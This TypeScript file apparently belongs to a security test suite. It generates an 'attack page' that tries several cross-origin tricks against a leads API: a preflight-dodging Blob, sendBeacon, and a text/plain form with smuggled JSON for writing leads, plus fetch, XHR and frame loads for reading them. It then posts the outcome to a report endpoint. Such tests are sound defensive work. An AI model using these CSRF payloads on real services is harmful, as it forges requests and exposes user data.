/** What came of each attempt, by its name: the text that the page could read, or null. */
export type PageReport = Readonly<Record<string, string | null>>

/** How many attempts are to store a lead: each of them would store one if the api allowed it. */
export const storingAttempts = 5
/** The attempts by which a page could read leads, if the api allowed it; in a frame nobody can, whatever its origin. */
export const readingAttempts = ["fetch of a list", "fetch of a history", "request of a history"]

/**
 * A page that tries whatever a page can do to store leads in an api and to read them, and reports to `site`. The api's address is
 * in its own query; empty for its own origin.
 *
 * The script is text, because it is the browser that runs it.
 */
export const attackPage = (site: string): string => `<!doctype html>
<title>Nothing to see here</title>
<script type="module">
const api = new URL(location).searchParams.get("api")
const webhooks = api + "/webhooks/leads"
const history = api + "/stats/leads/1/history"
const lead = (how) => JSON.stringify({ email: "browser@evil.test", zipcode: "66123", how })
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms))

/** An element that loads something; the text in it, if the page may see it. */
const load = (element) =>
  new Promise((resolve) => {
    const end = () => {
      let text = null
      try { text = element.contentDocument?.body?.innerText || null } catch {}
      resolve(text)
    }
    element.onload = end
    element.onerror = end
    setTimeout(end, 2000)
    document.body.append(element)
  })
const make = (name, properties) => Object.assign(document.createElement(name), properties)

const attempts = {
  // A Blob without a type has no Content-Type, so that no preflight asks for leave.
  "blob": async () => { await fetch(webhooks, { method: "POST", mode: "no-cors", body: new Blob([lead("blob")]) }); return null },
  "bytes kept alive": async () => {
    const body = new TextEncoder().encode(lead("bytes kept alive"))
    await fetch(webhooks, { method: "POST", mode: "no-cors", keepalive: true, body })
    return null
  },
  "beacon": async () => { navigator.sendBeacon(webhooks, new Blob([lead("beacon")])); return null },
  "request": () => new Promise((resolve) => {
    const request = new XMLHttpRequest()
    request.open("POST", webhooks)
    request.onloadend = () => resolve(request.responseText || null)
    request.send(new Blob([lead("request")]))
  }),
  "preflighted fetch": async () => {
    const headers = { "Content-Type": "application/json", "Idempotency-Key": "k" + Math.random(), "X-Correlation-ID": "c" }
    return (await fetch(webhooks, { method: "POST", headers, body: lead("preflighted fetch") })).text()
  },
  "form": async () => {
    const frame = make("iframe", { name: "target" })
    const form = make("form", { action: webhooks, method: "post", enctype: "text/plain", target: "target" })
    form.append(make("input", { name: '{"email":"browser@evil.test","how":"form","a":"', value: '"}' }))
    document.body.append(form)
    const loaded = load(frame)
    form.submit()
    await loaded
    await pause(300)
    return null
  },
  "fetch of a list": async () => (await fetch(api + "/stats/leads/recent")).text(),
  "fetch of a history": async () => (await fetch(history)).text(),
  "request of a history": () => new Promise((resolve) => {
    const request = new XMLHttpRequest()
    request.open("GET", history)
    request.onloadend = () => resolve(request.responseText || null)
    request.send()
  }),
  "frame of a list": () => load(make("iframe", { src: api + "/stats/leads/recent" })),
  "image of a history": () => load(make("img", { src: history })),
  "script of a list": () => load(make("script", { src: api + "/stats/leads/recent" })),
}

await fetch("/loaded").catch(() => undefined)
await pause(200)
const report = {}
for (const [name, attempt] of Object.entries(attempts)) report[name] = await attempt().catch(() => null)
await pause(300)
await fetch("${site}/report", { method: "POST", mode: "no-cors", body: JSON.stringify(report) })
</script>`
